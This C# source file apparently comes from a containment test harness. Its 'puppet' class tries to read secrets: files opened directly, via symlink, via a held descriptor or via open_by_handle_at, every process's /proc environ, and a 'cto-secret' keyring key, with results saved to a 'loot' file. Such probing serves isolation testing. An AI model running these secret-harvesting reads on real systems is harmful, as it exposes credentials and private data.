using System.Globalization;
using System.Text;

namespace CtoHarness.Puppet;

/// <summary>Attacks that read what is secret. What was read is left in a file called <c>loot</c>.</summary>
internal static unsafe class Reads
{
    private const int SearchKeys = 10;
    private const int ReadKey = 11;
    private const int SessionKeys = -3;

    internal static Dictionary<string, Func<string[], long>> Verbs { get; } = new(StringComparer.Ordinal)
    {
        ["read"] = words => Loot(Kernel.Open(words[0], Kernel.ReadOnly)),
        ["read-by-link"] = words => Writes.First(Writes.Link(words[0], "l"), () => Loot(Kernel.Open("l", Kernel.ReadOnly))),
        ["read-held"] = words => Loot(long.Parse(words[0], CultureInfo.InvariantCulture)),
        ["list"] = words => Writes.Opened(words[0], Kernel.ReadOnly, List),
        ["measure"] = Measure,
        ["by-handle"] = words => ByHandle(words[0]),
        ["environment-of-all"] = _ => EnvironmentOfAll(),
        ["session-key"] = _ => SessionKey(),
        ["run-it"] = words => Kernel.Fork() is var child && child == 0 ? Exit(Kernel.Become(words)) : Kernel.Wait(child) is var code && code == 0 ? 0 : -code,
    };

    /// <summary>Keeps what an open file holds.</summary>
    internal static long Loot(long file)
    {
        var count = Kernel.Take(file, out var bytes);
        return count <= 0 ? (count < 0 ? count : Program.NoEffect) : Keep(bytes);
    }

    /// <summary>Keeps bytes.</summary>
    internal static long Keep(byte[] bytes)
    {
        var file = Kernel.Open("loot", Kernel.WriteOnly | Kernel.Create | Kernel.Append);
        return file < 0 ? file : Kernel.Do(Call.Write, file, Kernel.Bytes(bytes), bytes.Length);
    }

    /// <summary>Ends a child with an error's number.</summary>
    internal static long Exit(long result) => Kernel.Do(Call.Exit, result < 0 ? -result : 0);

    private static long List(long folder)
    {
        const int Size = 4096;
        var place = Kernel.Bytes(new byte[Size]);
        var count = Kernel.Do(Call.ListFolder, folder, place, Size);
        return count < 0 ? count : Keep(new Span<byte>((void*)place, (int)count).ToArray());
    }

    private static long ByHandle(string path)
    {
        var handle = Kernel.Bytes([128, 0, 0, 0, .. new byte[140]]);
        var named = Kernel.Do(new Call(303, 264), Kernel.Here, Kernel.Text(path), handle, Kernel.Bytes(new byte[8]));
        return named < 0 ? named : Loot(Kernel.Do(new Call(304, 265), Kernel.Open("/", Kernel.ReadOnly), handle, Kernel.ReadOnly));
    }

    private static long Measure(string[] words)
    {
        var stat = (long*)Kernel.Bytes(new byte[256]);
        var result = Kernel.Do(Call.StatAt, Kernel.Here, Kernel.Text(words[0]), (nint)stat, 0);
        return result < 0 ? result : Keep(Encoding.ASCII.GetBytes(string.Create(CultureInfo.InvariantCulture, $"size {stat[6]}\n"))); // st_size stands at 48 on both kinds of machine
    }

    private static long EnvironmentOfAll()
    {
        var result = Program.NoEffect;
        foreach (var folder in Directory.GetDirectories("/proc"))
        {
            if (char.IsAsciiDigit(Path.GetFileName(folder)[0]) && Loot(Kernel.Open(folder + "/environ", Kernel.ReadOnly)) is >= 0 and var kept)
            {
                result = kept;
            }
        }

        return result;
    }

    private static long SessionKey()
    {
        var key = Kernel.Do(Call.KeyControl, SearchKeys, SessionKeys, Kernel.Text("user"), Kernel.Text("cto-secret"), 0);
        if (key < 0)
        {
            return key;
        }

        var place = Kernel.Bytes(new byte[256]);
        var count = Kernel.Do(Call.KeyControl, ReadKey, key, place, 256);
        return count < 0 ? count : Keep(new Span<byte>((void*)place, (int)count).ToArray());
    }
}
